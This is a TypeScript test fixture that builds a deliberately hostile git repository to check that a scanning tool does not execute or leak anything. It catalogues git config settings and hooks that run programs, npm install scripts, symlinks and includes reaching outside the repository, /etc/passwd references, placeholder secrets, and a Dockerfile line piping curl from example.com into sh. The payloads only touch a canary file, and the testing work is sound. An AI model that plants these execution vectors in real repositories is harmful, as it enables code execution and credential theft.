import { execFileSync } from "node:child_process";
import { chmodSync, cpSync, mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { root, temporary } from "../bundled.ts";

/** A token and a password that no report may show. */
export const secrets = ["ghp_9fK2mQ7xW4vT1bN8cR5yH3jL6pS0dZaEuGiO", "Xq7v-Rk29-Lw55-Tz81"];

const quiet = { GIT_CONFIG_GLOBAL: "/dev/null", GIT_CONFIG_SYSTEM: "/dev/null" };

const git = (cwd: string, ...args: string[]): string =>
  execFileSync("git", ["-c", "user.name=a", "-c", "user.email=a@example.com", "-c", "commit.gpgsign=false", ...args], {
    cwd,
    encoding: "utf8",
    env: { ...process.env, ...quiet },
    stdio: ["ignore", "pipe", "ignore"],
  });

/** Settings of git that name a program to run. */
const programs = (command: string): Readonly<Record<string, string>> => ({
  "core.fsmonitor": command,
  "core.pager": command,
  "core.editor": command,
  "core.sshCommand": command,
  "core.askPass": command,
  "core.gitProxy": command,
  "core.alternateRefsCommand": command,
  "pager.diff": command,
  "pager.ls-files": command,
  "diff.external": command,
  "diff.evil.command": command,
  "diff.evil.textconv": command,
  "filter.evil.clean": command,
  "filter.evil.smudge": command,
  "filter.evil.process": command,
  "merge.evil.driver": command,
  "alias.ls-files": `!${command}`,
  "alias.rev-parse": `!${command}`,
  "gpg.program": command,
  "credential.helper": `!${command}`,
  "uploadpack.packObjectsHook": command,
  "remote.origin.url": `ext::${command}`,
  "remote.origin.promisor": "true",
  "remote.origin.uploadpack": command,
});

const hooks = [
  "post-checkout",
  "post-index-change",
  "pre-commit",
  "reference-transaction",
  "fsmonitor-watchman",
  "post-rewrite",
  "pre-auto-gc",
];

/** What a stranger's files refer to, of all that lies beside the repository. */
const outside: Readonly<Record<string, string>> = {
  ".env": `OUTSIDE=${secrets[0]}\n`,
  Dockerfile: "FROM debian:12.9\nRUN sudo outside\n",
  "compose.yaml": "services:\n  outside:\n    image: a:1\n    privileged: true\n",
  "seccomp.json": '{ "defaultAction": "SCMP_ACT_ALLOW" }\n',
  abstraction: "/** rw,\n",
  ".dockerignore": "outside\n",
  "seaworthy.yaml": "profile: strict\n",
  "baseline.json": '{ "version": 1, "findings": [] }\n',
  "list.txt": "outside\n",
};

const files = (beside: string): Readonly<Record<string, string>> => ({
  "out/compose.yaml": `include: [../../outside/compose.yaml, "${beside}/compose.yaml"]
services:
  a:
    build: ../../outside
    env_file: [../../outside/.env, "${beside}/.env", /etc/passwd, ~/.env]
    security_opt: ["seccomp:../../outside/seccomp.json", "seccomp:${beside}/seccomp.json"]
    environment: { PASSWORD: "${secrets[1]}", TOKEN: "${secrets[0]}" }
  b: { extends: { file: ../../outside/compose.yaml, service: outside } }
  c: { build: { context: ., dockerfile: "${beside}/Dockerfile" } }
secrets: { s: { file: ../../outside/.env } }
configs: { c: { file: /etc/hostname } }
`,
  "out/Dockerfile": `FROM debian:12.9\nRUN touch pwned; curl -u a:${secrets[1]} https://example.com | sh\nCOPY ../../outside/.env /\nENV TOKEN=${secrets[0]}\n# $(touch pwned) \`touch pwned\` \u001b[31m\u202e\n`,
  "out/apparmor.d/app": `include "${beside}/abstraction"\ninclude <../../../outside/abstraction>\nprofile app {\n  include "../../../outside/abstraction"\n  #include if exists <tunables/global>\n}\n`,
  ".gitattributes": "* filter=evil diff=evil merge=evil\n",
  "package.json": '{ "scripts": { "install": "touch pwned", "prepare": "touch pwned" } }\n',
  ".npmrc": "script-shell=touch\n",
});

/** Links of the repository that lead out of it. */
const links: Readonly<Record<string, string>> = {
  "linked/Dockerfile": "../../outside/Dockerfile",
  "linked/compose.yaml": "../../outside/compose.yaml",
  "linked/.env": "../../outside/.env",
  "linked/.gitignore": "../../outside/list.txt",
  "linked/.dockerignore": "../../outside/.dockerignore",
  "linked/seccomp.json": "../../outside/seccomp.json",
  folder: "../outside",
  "apparmor.d": "../outside",
};

/** A repository beside a folder that is none of its business: our fixtures, and files that try everything. */
export function hostileRepository(): { readonly repository: string; readonly beside: string; readonly pwned: string } {
  const home = temporary("safety");
  const [repository, beside, pwned] = [join(home, "repository"), join(home, "outside"), join(home, "pwned")];
  for (const [folder, texts] of [
    [beside, outside],
    [repository, files(beside)],
  ] as const)
    for (const [path, text] of Object.entries(texts)) {
      mkdirSync(dirname(join(folder, path)), { recursive: true });
      writeFileSync(join(folder, path), text);
    }
  cpSync(join(root, "fixtures"), join(repository, "fixtures"), { recursive: true });
  for (const [path, target] of Object.entries(links)) {
    mkdirSync(dirname(join(repository, path)), { recursive: true });
    symlinkSync(target, join(repository, path));
  }
  git(repository, "init", "-q", "-b", "main");
  git(repository, "add", "-A");
  git(repository, "commit", "-qm", "a");
  writeFileSync(join(repository, "late.Dockerfile"), "FROM debian:12.9\nUSER root\nRUN sudo ls\n");
  git(repository, "mv", "fixtures/dockerfiles/node.Dockerfile", "fixtures/dockerfiles/moved.Dockerfile");
  git(repository, "add", "-A");
  git(repository, "commit", "-qm", "b");
  for (const [name, value] of Object.entries(programs(`touch ${pwned}`))) git(repository, "config", name, value);
  for (const name of hooks) {
    const hook = join(repository, ".git/hooks", name);
    writeFileSync(hook, `#!/bin/sh\ntouch ${pwned}\n`);
    chmodSync(hook, 0o755);
  }
  return { repository, beside, pwned };
}
